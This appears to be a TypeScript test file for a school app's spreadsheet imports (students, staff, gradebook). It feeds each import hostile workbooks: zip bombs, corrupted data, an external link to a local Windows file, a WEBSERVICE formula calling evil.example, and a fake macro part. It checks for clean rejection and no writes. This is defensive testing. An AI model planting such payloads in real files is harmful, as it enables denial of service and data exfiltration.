import ExcelJS from 'exceljs';
import type { Test } from 'supertest';
import { readZip, spacesDeflated, writeZip, ZipEntry } from './fuzz-zip';
import { GradingFixture, gradingClass, sheetPath } from './grading-fixtures';
import { bearer, startTestApp, TestApp } from './harness';
import {
  openYearWithClasses,
  readWorkbook,
  schoolWithAdmin,
  STAFF_HEADERS,
  staffRow,
  STUDENT_HEADERS,
  studentRow,
  waitForJob,
  workbook,
  XLSX_TYPE,
} from './imports-fixtures';

/**
 * Hostile workbooks for every import (students, staff, the sổ điểm): each ends in a clear 4xx or a FAILED job with a
 * message — never a 500, a hang, or a server holding hundreds of megabytes — and writes nothing. Not repeated here
 * (proven in imports-students / imports-staff / grading-xlsx): random bytes and a truncated file, missing columns,
 * 20,001 real rows, over 10 MB, a .csv name, merged cells and formulas in the student list, bad values in the staff
 * list and the sổ điểm, another layout or another gradebook. New here: the shapes below for all three imports.
 */
interface Target {
  kind: string;
  schoolId: string;
  token: string;
  path: string;
  /** A good file of this import, the shapes are made from. */
  good: () => Promise<Buffer>;
  /** The first data row, and a text column and (for the sổ điểm) a score column in it. */
  dataRow: (ws: ExcelJS.Worksheet) => number;
  textCol: number;
  valueCol: number;
  maxRows: number;
  tables: string[];
}

type Shape = (good: Buffer, target: Target) => Promise<Buffer>;

const MB = 1024 * 1024;

const SHAPES: Record<string, Shape> = {
  'a zip bomb: a part declaring 400 MB once inflated': async (good) =>
    writeZip([...readZip(good), { name: 'xl/media/image1.png', data: Buffer.alloc(1000), declaredSize: 400 * MB }]),
  // What a declared-size check alone misses: 300 MB of XML behind a 300 KB part that declares 1 KB.
  'a part that inflates far beyond the size it declares': async (good) =>
    writeZip([
      ...readZip(good),
      { name: 'docProps/custom.xml', data: Buffer.alloc(0), declaredSize: 1024, compressed: await spacesDeflated(300) },
    ]),
  "bytes flipped inside the sheet's compressed data": async (good) =>
    writeZip(readZip(good).map((e) => (/worksheets\/sheet1\.xml$/.test(e.name) ? { ...e, damaged: true } : e))),
  'a Latin-1 CSV renamed .xlsx': async () =>
    Buffer.from('Mã định danh;Họ và tên;Ngày sinh\r\n034213000001;Nguyễn Văn Ánh;05/09/2013\r\n', 'latin1'),
  'UTF-16 text renamed .xlsx': async () => Buffer.from('\ufeffSTT\tHọ và tên\r\n1\tNguyễn Văn An\r\n', 'utf16le'),
  'more rows than one import takes': async (good, target) => withSheetXml(good, rowsXml(2 * target.maxRows + 1_002)),
  'a data row 16,384 columns wide with a wrong value': (good, target) =>
    edit(good, target, (ws, r) => {
      for (let c = 30; c <= 16_384; c += 1) ws.getCell(r, c).value = 'x';
      ws.getCell(r, target.valueCol).value = true;
    }),
  'formulas (one to an external workbook through an external-link part)': async (good, target) => {
    const file = await edit(good, target, (ws, r) => {
      ws.getCell(r, target.textCol).value = { formula: "'[1]Sheet1'!A1", result: 'x' };
      ws.getCell(r, target.valueCol).value = { formula: 'WEBSERVICE("http://evil.example")', result: 1 };
    });
    return writeZip([...readZip(file), ...externalLinkParts()]);
  },
  'wrong types and Excel error values': (good, target) =>
    edit(good, target, (ws, r) => {
      ws.getCell(r, target.textCol).value = { error: '#N/A' } as ExcelJS.CellErrorValue;
      ws.getCell(r, target.valueCol).value = new Date(Date.UTC(2025, 0, 1));
    }),
  'a 32,767-character text and a valid rest': (good, target) =>
    edit(good, target, (ws, r) => (ws.getCell(r, target.textCol).value = 'Ă'.repeat(32_767))),
  'a macro part (an .xlsm renamed) with a wrong value': async (good, target) => {
    const file = await edit(good, target, (ws, r) => (ws.getCell(r, target.valueCol).value = 'không phải số'));
    return withMacro(file);
  },
};

describe('hostile workbooks for every import', () => {
  let t: TestApp;
  const targets: Target[] = [];

  beforeAll(async () => {
    t = await startTestApp();
    const lists = await schoolWithAdmin(t);
    await openYearWithClasses(t, 2082, [lists.schoolId], ['6A1']);
    const list = (
      kind: 'students' | 'staff',
      headers: string[],
      rows: () => ExcelJS.CellValue[][],
      textCol: number,
      valueCol: number,
      tables: string[],
    ): Target => ({
      kind,
      ...lists,
      path: `/api/schools/${lists.schoolId}/imports/${kind}`,
      good: () => workbook(headers, rows()),
      dataRow: () => 2,
      textCol,
      valueCol,
      maxRows: 20_000,
      tables,
    });
    targets.push(
      list('students', STUDENT_HEADERS, () => [studentRow(0, '6A1'), studentRow(1, '6A1')], 3, 4, [
        'student',
        'guardian',
        'enrolment',
        'audit_log',
      ]),
      list('staff', STAFF_HEADERS, () => [staffRow(0), staffRow(1)], 2, 11, ['staff', 'staff_history', 'audit_log']),
      await gradebookTarget(t, await gradingClass(t)),
    );
  });
  afterAll(() => t.close());

  const cases = Object.keys(SHAPES).flatMap((shape) =>
    ['students', 'staff', 'gradebook'].map((kind) => [kind, shape] as const),
  );

  it.each(cases)('%s import: %s → a clear refusal or a FAILED job, nothing written', async (kind, shape) => {
    const target = targets.find((x) => x.kind === kind)!;
    const file = await SHAPES[shape](await target.good(), target);
    const before = await counts(t, target);
    const baseline = process.memoryUsage().rss;
    let peak = baseline;
    const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 10);
    try {
      const res = await upload(t, target, file);
      if (res.status !== 202) {
        expect({ status: res.status, type: res.headers['content-type'] }).toEqual({
          status: expect.any(Number),
          type: expect.stringContaining('application/problem+json'),
        });
        expect(res.status >= 400 && res.status < 500).toBe(true);
      } else {
        const job = await waitForJob(t, target.token, target.schoolId, res.body.id);
        expect({ status: job.status, message: typeof job.message === 'string' && job.message.length > 10 }).toEqual({
          status: 'FAILED',
          message: true,
        });
        if (job.errorCount > 0)
          expect(
            (
              await t
                .http()
                .get(`/api/schools/${target.schoolId}/imports/${job.id}/errors.xlsx`)
                .set(bearer(target.token))
            ).status,
          ).toBe(200);
      }
    } finally {
      clearInterval(sampler);
    }
    expect(await counts(t, target)).toEqual(before);
    // The server (this very process) never held the bomb inflated: a few tens of megabytes at most.
    expect(Math.round((peak - baseline) / MB)).toBeLessThan(150);
  });
});

async function gradebookTarget(t: TestApp, f: GradingFixture): Promise<Target> {
  const good = async () =>
    download(
      t
        .http()
        .get(`${sheetPath(f)}/export.xlsx`)
        .set(bearer(f.teacherA)),
    );
  return {
    kind: 'gradebook',
    schoolId: f.school.id,
    token: f.teacherA,
    path: `${sheetPath(f)}/import`,
    good,
    textCol: 12,
    valueCol: 5,
    maxRows: 200,
    dataRow: (ws) => {
      for (let r = 1; r <= 30; r++) if (ws.getCell(r, 2).text === 'Mã định danh') return r + 1;
      throw new Error('no header row in the exported sổ điểm');
    },
    tables: ['gradebook', 'grade_entry', 'grade_change', 'audit_log'],
  };
}

function upload(t: TestApp, target: Target, file: Buffer): Test {
  return t
    .http()
    .post(target.path)
    .set(bearer(target.token))
    .attach('file', file, { filename: 'tep-doc-hai.xlsx', contentType: XLSX_TYPE });
}

async function counts(t: TestApp, target: Target): Promise<Record<string, number>> {
  const out: Record<string, number> = {};
  for (const table of target.tables)
    out[table] = (
      await t.owner.query(
        // A READ row records the download of the error workbook (docs/security/coverage.md): a read, not a write.
        `select count(*)::int as n from ${table} where school_id = $1${table === 'audit_log' ? ` and action <> 'READ'` : ''}`,
        [target.schoolId],
      )
    )[0].n;
  return out;
}

/** The good file with its first data row changed through exceljs. */
async function edit(
  good: Buffer,
  target: Target,
  change: (ws: ExcelJS.Worksheet, row: number) => void,
): Promise<Buffer> {
  const wb = await readWorkbook(good);
  const ws = wb.worksheets[0];
  change(ws, target.dataRow(ws));
  return Buffer.from(await wb.xlsx.writeBuffer());
}

function withSheetXml(good: Buffer, sheetData: string): Buffer {
  const xml = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${sheetData}</sheetData></worksheet>`;
  return writeZip(
    readZip(good).map((e) => (e.name === 'xl/worksheets/sheet1.xml' ? { name: e.name, data: Buffer.from(xml) } : e)),
  );
}

function rowsXml(n: number): string {
  return Array.from(
    { length: n },
    (_, i) => `<row r="${i + 1}"><c r="A${i + 1}" t="inlineStr"><is><t>x${i}</t></is></c></row>`,
  ).join('');
}

function externalLinkParts(): ZipEntry[] {
  const ns = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  return [
    {
      name: 'xl/externalLinks/externalLink1.xml',
      data: Buffer.from(
        `<externalLink xmlns="${ns}"><externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></externalLink>`,
      ),
    },
    {
      name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
      data: Buffer.from(
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///C:/Windows/win.ini" TargetMode="External"/></Relationships>',
      ),
    },
  ];
}

/** Adds a VBA project and declares the workbook macro-enabled, as an .xlsm renamed .xlsx is. */
function withMacro(file: Buffer): Buffer {
  return writeZip([
    ...readZip(file).map((e) =>
      e.name === '[Content_Types].xml'
        ? {
            name: e.name,
            data: Buffer.from(
              e.data
                .toString('utf8')
                .replace(
                  'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
                  'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
                )
                .replace(
                  '</Types>',
                  '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                ),
            ),
          }
        : e,
    ),
    { name: 'xl/vbaProject.bin', data: Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)) },
  ]);
}

async function download(req: Test): Promise<Buffer> {
  const res = await req.buffer(true).parse((r, cb) => {
    const chunks: Buffer[] = [];
    r.on('data', (c: Buffer) => chunks.push(c));
    r.on('end', () => cb(null, Buffer.concat(chunks)));
  });
  if (res.status !== 200) throw new Error(`export: ${res.status}`);
  return res.body as Buffer;
}
